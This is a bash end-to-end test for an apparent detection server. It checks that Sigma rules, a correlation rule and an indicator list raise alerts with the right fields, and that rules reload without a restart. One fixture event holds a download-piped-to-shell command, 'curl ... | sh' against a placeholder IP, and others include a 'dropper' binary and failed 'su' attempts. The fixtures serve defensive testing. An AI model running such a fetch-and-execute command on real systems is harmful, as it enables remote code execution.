#!/usr/bin/env bash
# Detection on the server: every ingested event is matched against Sigma rules (with a
# correlation) and an indicator list; alerts are stored with their batch, carry the ECS alert
# fields, are listed by `mamori alerts list`, and rules reload without a restart.
. "$(dirname "$0")/lib/common.bash"
. "$(dirname "$0")/lib/stack.bash"

mkdir -p "$WORK/rules"
cp "$MAMORI_TEST_DATA/e2e_detect/rules.yml" "$WORK/rules/"
start_server --rules "$WORK/rules" --iocs "$MAMORI_TEST_DATA/e2e_detect/iocs.txt"

python3 - "$WORK/ev.jsonl" <<'PY'
import json, sys
out = open(sys.argv[1], "w")
def ev(seq, t, cmd, name, **kw):
    e = {"@timestamp": "2026-11-21T10:%02d:%02d.000000000Z" % (t // 60, t % 60),
         "event": {"kind": "event", "category": ["process"], "type": ["start"], "action": "exec", "sequence": seq},
         "host": {"name": "det1"}, "user": {"name": kw.pop("user", "alice")},
         "process": {"pid": 100 + seq, "entity_id": "d%08d" % seq, "executable": "/usr/bin/" + name,
                     "name": name, "command_line": cmd, "args": cmd.split(),
                     "parent": {"entity_id": "d%08d" % (seq - 1), "executable": "/usr/bin/bash"}}}
    e["process"].update(kw)
    out.write(json.dumps(e) + "\n")
ev(1, 0, "curl -s http://203.0.113.9/x.sh | sh", "curl")
ev(2, 1, "ls -la", "ls")
ev(3, 2, "/tmp/dropper", "dropper", hash={"sha256": "AA11BB22CC33DD44EE55FF66AA11BB22CC33DD44EE55FF66AA11BB22CC33DD44"})
for i, t in enumerate([10, 20, 30]):
    ev(4 + i, t, "su -", "su", user="bob", exit_code=1)
ev(7, 40, "su -", "su", user="carol", exit_code=1)
PY
enroll_agent "$WORK/agent" det1
start_agent "$WORK/agent" --replay "$WORK/ev.jsonl" --drain 20
wait $AGENT_PID || fail "agent exited with $?"
WAIT_S=20 wait_for sh -c "[ \$(\"$CLI\" alerts list --since 1h --output jsonl | wc -l) -ge 3 ]" ||
  fail "alerts not raised: $("$CLI" alerts list --since 1h 2>&1)"
"$CLI" alerts list --since 1h --output jsonl >"$WORK/alerts.jsonl"
python3 - "$WORK/alerts.jsonl" <<'PY' || { cat "$WORK/alerts.jsonl" >&2; fail "alert documents"; }
import json, sys
alerts = [json.loads(l) for l in open(sys.argv[1])]
by = {a["rule"]["id"]: a for a in alerts}
assert len(alerts) == 3, [a["rule"]["name"] for a in alerts]
a = by["7d1f6c2e-0d7e-4d55-9a51-2f3f1c7e0a01"]
assert a["rule"]["name"] == "Download piped to a shell" and a["rule"]["severity"] == "high", a["rule"]
assert a["risk_score"] == 73 and a["threat"]["technique"]["id"] == ["T1059.004", "T1105"], a
assert a["threat"]["tactic"]["name"] == ["Execution", "Command and Control"], a["threat"]
assert a["@timestamp"].startswith("2026-11-21T10:00:00") and a["event"]["created"] > a["@timestamp"]
assert a["host"]["name"] == "det1" and len(a["agent"]["id"]) == 32, a
assert a["process"]["entity_id"] == "d00000001" and a["process"]["executable"] == "/usr/bin/curl"
assert a["process"]["command_line"].startswith("curl -s"), a["process"]
assert a["mamori"]["events"][0]["event"]["sequence"] == 1 and "process tree" in a["mamori"]["advice"]
i = [x for x in alerts if x["rule"]["ruleset"] == "ioc"]
assert len(i) == 1 and i[0]["rule"]["severity"] == "critical" and i[0]["threat"]["technique"]["id"] == ["T1204"], i
assert i[0]["mamori"]["indicator"]["field"] == "process.hash.sha256" and i[0]["process"]["entity_id"] == "d00000003", i
c = by["7d1f6c2e-0d7e-4d55-9a51-2f3f1c7e0a03"]
assert c["mamori"]["correlation"]["count"] == 3 and "User=bob" in c["mamori"]["correlation"]["group"], c["mamori"]
assert c["rule"]["severity"] == "medium", c
print("ok: %d alerts with their fields" % len(alerts))
PY
table=$("$CLI" alerts list --since 1h --severity high)
echo "$table" | grep -q "Download piped to a shell" || fail "table: $table"
echo "$table" | grep -q "Repeated failed su" && fail "--severity high shows a medium alert"
id=$(head -1 "$WORK/alerts.jsonl" | python3 -c 'import json,sys; print(json.load(sys.stdin)["event"]["id"])')
"$CLI" alerts show "$id" | grep -q "rule.name" || fail "alerts show"
echo "ok: alerts list and show"

# Reload: a new rule file applies to later events without a restart; a broken file is reported
# and the rest still loads.
cat >"$WORK/rules/new.yml" <<'YML'
title: Listing of root's home
id: 7d1f6c2e-0d7e-4d55-9a51-2f3f1c7e0a04
level: medium
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        CommandLine: 'ls /root'
    condition: selection
YML
printf 'title: broken\ndetection: [\n' >"$WORK/rules/broken.yml"
api POST /rules/reload >"$WORK/reload.json"; out=$(cat "$WORK/reload.json")
[ "$API_STATUS" = 200 ] || fail "reload: $API_STATUS $out"
echo "$out" | python3 -c 'import json,sys; r=json.load(sys.stdin); assert r["rules"]==3 and r["failed"]==1, r' ||
  fail "reload counts: $out"
python3 -c '
import json
e={"@timestamp":"2026-11-21T11:00:00Z","event":{"kind":"event","category":["process"],"type":["start"],"action":"exec","sequence":8},
   "host":{"name":"det1"},"process":{"pid":9,"entity_id":"d00000008","executable":"/usr/bin/ls","name":"ls","command_line":"ls /root"}}
print(json.dumps(e))' >"$WORK/ev2.jsonl"
start_agent "$WORK/agent" --replay "$WORK/ev2.jsonl" --drain 20
wait $AGENT_PID || fail "agent exited with $?"
WAIT_S=20 wait_for sh -c "\"$CLI\" alerts list --since 1h --rule 7d1f6c2e-0d7e-4d55-9a51-2f3f1c7e0a04 --output jsonl | grep -q d00000008" ||
  fail "rule added by reload did not fire"
kill -HUP "$SERVER_PID"
sleep 0.5
api GET /stats >"$WORK/stats.json"; stats=$(cat "$WORK/stats.json")
echo "$stats" | python3 -c 'import json,sys; s=json.load(sys.stdin)["detection"]
assert s["evaluated"] >= 8 and s["reloads"] >= 2 and s["alerts"] >= 4 and s["indicators"] == 2, s' ||
  fail "stats: $stats"
echo "ok: reload by API and SIGHUP"
